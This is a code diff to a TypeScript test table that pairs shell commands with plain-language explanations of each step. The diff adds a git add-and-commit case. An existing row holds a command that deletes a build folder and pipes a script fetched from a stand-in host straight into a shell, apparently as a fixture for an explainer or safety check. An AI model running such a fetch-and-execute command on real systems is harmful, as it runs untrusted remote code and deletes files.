@@ -25,6 +25,13 @@ const rows: readonly [string, readonly (readonly [string, string])[]][] = [
     ],
   ],
   [
+    'git add -A && git commit -m x',
+    [
+      ['git add -A', 'Changes the git repository (add).'],
+      ['git commit -m x', 'If that succeeds: Changes the git repository (commit).'],
+    ],
+  ],
+  [
     'rm -rf dist; curl -s https://a.test | sh',
     [
       ['rm -rf dist', 'rm removes or overwrites files.'],
